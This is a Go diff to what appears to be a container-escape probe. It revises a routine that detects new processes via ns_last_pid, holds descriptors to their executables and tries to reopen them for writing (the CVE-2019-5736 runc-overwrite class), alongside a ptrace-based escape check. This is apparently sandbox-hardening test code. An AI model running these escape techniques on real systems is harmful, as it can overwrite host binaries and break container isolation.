@@ -44,7 +44,8 @@ func (w *pidWatcher) fresh() []int {
 	return out
 }
 
-// watchExe keeps an O_PATH descriptor of every new process's executable
+// watchExe keeps an O_PATH descriptor of the executable of every process
+// that appears (found as soon as its pid is taken, through ns_last_pid)
 // and tries to reopen each for writing once nothing executes it any more
 // (the CVE-2019-5736 class). The container's own binaries are left alone.
 func watchExe(d time.Duration) error {
@@ -54,23 +55,36 @@ func watchExe(d time.Duration) error {
 		wrote  bool
 	}
 	var all []*held
-	var w pidWatcher
+	seen := map[int]bool{}
 	deadline := time.Now().Add(d)
 	wrote := 0
+	next := time.Now()
 	for time.Now().Before(deadline) {
-		for _, pid := range w.fresh() {
+		last, err := lastPid()
+		if err != nil {
+			return err
+		}
+		for pid := last; pid <= last+2; pid++ {
+			if seen[pid] || pid == os.Getpid() {
+				continue
+			}
 			p := fmt.Sprintf("/proc/%d/exe", pid)
 			fd, err := syscall.Open(p, unix.O_PATH|syscall.O_CLOEXEC, 0)
 			if err != nil {
 				continue
 			}
-			target, _ := os.Readlink(p)
+			seen[pid] = true
+			target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
 			if strings.HasPrefix(target, "/bin/") || target == "/helper" {
 				syscall.Close(fd)
 				continue
 			}
 			all = append(all, &held{fd: fd, target: target})
 		}
+		if time.Now().Before(next) {
+			continue
+		}
+		next = time.Now().Add(5 * time.Millisecond)
 		for _, h := range all {
 			if h.wrote {
 				continue
@@ -87,7 +101,6 @@ func watchExe(d time.Duration) error {
 				fmt.Printf("WROTE %s\n", h.target)
 			}
 		}
-		time.Sleep(time.Millisecond)
 	}
 	targets := map[string]bool{}
 	for _, h := range all {
@@ -101,6 +114,15 @@ func watchExe(d time.Duration) error {
 	return nil
 }
 
+// lastPid is the pid last taken in this pid namespace.
+func lastPid() (int, error) {
+	data, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
+	if err != nil {
+		return 0, err
+	}
+	return strconv.Atoi(strings.TrimSpace(string(data)))
+}
+
 // ptraceRace attaches to each process as soon as it appears, the way a
 // container with CAP_SYS_PTRACE would, and looks for marker (a path that
 // only the host has) under the process's root.
@@ -109,11 +131,7 @@ func ptraceRace(d time.Duration, marker string) error {
 	deadline := time.Now().Add(d)
 	attached, escaped := 0, 0
 	for time.Now().Before(deadline) {
-		data, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
-		if err != nil {
-			return err
-		}
-		last, err := strconv.Atoi(strings.TrimSpace(string(data)))
+		last, err := lastPid()
 		if err != nil {
 			return err
 		}
